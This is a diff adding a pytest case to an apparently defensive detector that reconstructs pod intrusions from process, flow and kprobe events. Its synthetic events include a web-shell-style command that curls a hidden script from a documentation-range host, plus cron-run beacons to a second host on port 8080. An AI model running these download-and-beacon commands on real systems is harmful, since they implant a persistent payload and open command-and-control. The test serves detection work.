@@ -132,3 +132,29 @@ def test_an_empty_capture_says_why_and_validates():
     jsonschema = pytest.importorskip("jsonschema")
     jsonschema.validate(f.to_dict(), schema())
     jsonschema.validate(find_in(**_lateral()).to_dict(), schema())
+
+
+def test_a_job_an_intruder_wrote_is_not_routine_and_its_beacon_is_c2():
+    """A dropped script runs every minute from the pod's own scheduler: regular, but the intruder's."""
+    procs = [proc("main", None, "wiki-1", "/srv/php", t=-100 * S, seen="event"),
+             proc("cron", None, "wiki-1", "/sbin/cron", t=-100 * S, seen="event"),
+             proc("inj", "main", "wiki-1", "/bin/sh", "-c curl -o /www/.t.sh http://203.0.113.5/t.sh", 10 * S),
+             proc("dl", "inj", "wiki-1", "/usr/bin/curl", "-o /www/.t.sh http://203.0.113.5/t.sh", 10 * S + MS,
+                  exit_ns=11 * S)]
+    flows = [flow("d", 10 * S + 2 * MS, "dl", ("a", "wiki-1"), None, 80, dst_ip="203.0.113.5")]
+    for i in range(6):
+        t = (60 + 60 * i) * S
+        procs += [proc(f"run{i}", "cron", "wiki-1", "/bin/sh", "/www/.t.sh", t),
+                  proc(f"b{i}", f"run{i}", "wiki-1", "/usr/bin/curl", "-s http://203.0.113.6:8080/b", t + MS,
+                       exit_ns=t + 2 * S)]
+        flows.append(flow(f"b{i}", t + 2 * MS, f"b{i}", ("a", "wiki-1"), None, 8080, dst_ip="203.0.113.6"))
+    kp = [{"event_id": "w", "kind": "process_kprobe", "time_ns": 10 * S + 3 * MS, "node": "n1", "namespace": "a",
+           "pod": "wiki-1", "workload": "wiki", "exec_id": "dl", "function_name": "security_file_permission",
+           "file_path": "/www/.t.sh", "daddr": None, "dport": None, "hook_args": '[{"int_arg":2}]'}]
+    f = find_in(**frames(procs, flows, kp))
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert i.entry is not None and i.entry.exec_id == "inj"
+    assert i.key_command is not None and i.key_command.exec_id == "dl"  # wrote what ran later
+    roles = {(e.ip, e.port): e.role for e in i.endpoints}
+    assert roles == {("203.0.113.5", 80): "download", ("203.0.113.6", 8080): "c2"}
